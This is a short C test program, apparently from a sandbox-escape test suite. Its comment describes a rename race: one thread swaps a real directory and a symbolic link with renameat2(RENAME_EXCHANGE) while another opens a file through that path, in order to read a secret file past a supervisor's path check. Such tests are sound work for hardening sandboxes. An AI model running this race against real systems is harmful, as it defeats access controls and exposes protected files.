/* e0202-rename-race - rename race on a directory component.
 *
 * Attack: in the cwd, "e0202-d" is a real directory holding a decoy file
 * named like the secret, and "e0202-s" a symbolic link to the secret's
 * directory.  One thread swaps the two names again and again with
 * renameat2(RENAME_EXCHANGE) while another opens "e0202-d/NAME": the
 * supervisor may check the path while e0202-d is the real directory and
 * the kernel look it up when e0202-d is the link.
 * Source: Garfinkel 2003, "Traps and Pitfalls" (races on path
 * components); Watson 2007.
 * Usage: e0202-rename-race SECRET */
#include <limits.h>

#include "escape.h"

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0202-rename-race SECRET");
	char path[PATH_MAX * 2];
	struct esc_swap w;
	esc_swap_make(&w, "e0202", argv[1], "decoy\n", path, sizeof path);
	esc_swap_start(&w, 1);
	esc_race_open("open through the swapping directory", path, "decoy\n");
	esc_swap_stop(&w);
	return 0;
}
